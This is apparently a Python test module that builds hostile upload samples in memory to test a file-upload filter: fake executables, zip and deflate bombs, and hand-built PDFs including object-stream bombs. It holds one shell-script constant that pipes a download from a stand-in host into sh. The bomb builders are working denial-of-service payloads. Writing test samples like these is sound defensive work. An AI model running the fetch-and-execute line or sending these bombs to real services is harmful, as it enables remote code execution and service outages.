"""Hostile uploads, built in memory by the tests (no binary fixtures): renamed
executables, zip bombs, PDF decompression bombs, PDFs with scripts or embedded
files, PDF/HTML polyglots. Each builder returns the file's bytes."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

MB = 1024 * 1024

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
# A DOS stub pointing at a PE header, as every Windows .exe starts.
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(44) + struct.pack("<I", 64)
      + b"PE\x00\x00\x4c\x01" + bytes(200))
SHELL = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"


def deflate_bomb(size: int, *, zlib_header: bool = True) -> bytes:
    """Deflate data inflating to ``size`` zero bytes, built in well under a second:
    after a full flush the compressor forgets its history, so every megabyte of
    zeros compresses to the same segment, which is simply repeated."""
    block = bytes(MB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = size // MB
    body = segment * count + compressor.flush()
    if not zlib_header:
        return body
    check = 1
    for _ in range(count):
        check = zlib.adler32(block, check)
    return b"\x78\xda" + body + struct.pack(">I", check)


def zip_bomb(size: int, members: int = 4) -> bytes:
    """A valid ZIP whose ``members`` decompress to ``size`` bytes in all."""
    each = size // members
    data = deflate_bomb(each, zlib_header=False)
    crc = 0
    for _ in range(each // MB):
        crc = zlib.crc32(bytes(MB), crc)
    out, central = bytearray(), bytearray()
    for number in range(members):
        name = b"plan-%d.pdf" % number
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), each,
                           len(name), 0) + name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                               len(data), each, len(name), 0, 0, 0, 0, 0, offset) + name
    start = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members,
                                 len(central), start, 0)
    return bytes(out)


def small_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("plan.pdf", b"%PDF-1.7\n")
        archive.writestr("run.exe", PE)
    return buffer.getvalue()


# -- PDFs written by hand, so that every byte is under the test's control ------

def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf(objects: dict[int, bytes], *, root: int = 1, header: bytes = b"%PDF-1.7\n",
        trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF of ``objects`` (number -> body) with a correct cross-reference table."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (b"%010d 00000 n \n" % offsets[number] if number in offsets
                else b"0000000000 65535 f \n")
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, trailer, start)
    return bytes(out) + tail


def one_page(*, catalog: bytes = b"", page: bytes = b"", contents: bytes | None = None,
             more: dict[int, bytes] | None = None, **kwargs) -> bytes:
    """A one-page PDF; objects 1-4 are the catalog, page tree, page and contents."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           + page + b">>",
        4: contents if contents is not None else stream(b"BT /F1 12 Tf 72 720 Td (Piano) Tj ET"),
        **(more or {}),
    }
    return pdf(objects, **kwargs)


def many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
               2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count}
    for n in range(count):
        objects[n + 3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf(objects)


def with_object_stream(inside: dict[int, bytes], *, padding: int = 0) -> bytes:
    """A PDF 1.5 whose objects ``inside`` live in one compressed object stream,
    followed by ``padding`` bytes of spaces (an object-stream bomb when large);
    the cross-reference is a stream."""
    header, body = b"", b""
    for number, obj in sorted(inside.items()):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    compressor = zlib.compressobj(9)
    data = compressor.compress(header + body)
    spaces = b" " * MB
    for _ in range(padding // MB):
        data += compressor.compress(spaces)
    data += compressor.flush()
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    holder = max(inside) + 1
    offsets = {holder: len(out)}
    out += b"%d 0 obj\n" % holder + stream(
        data, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (len(inside), len(header))
    ) + b"\nendobj\n"
    xref = holder + 1
    offsets[xref] = len(out)
    position = {number: index for index, number in enumerate(sorted(inside))}
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref + 1):
        if number in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
        else:
            rows.append(struct.pack(">BIH", 2, holder, position[number]))
    out += b"%d 0 obj\n" % xref + stream(
        b"".join(rows), b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref + 1)
    ) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)
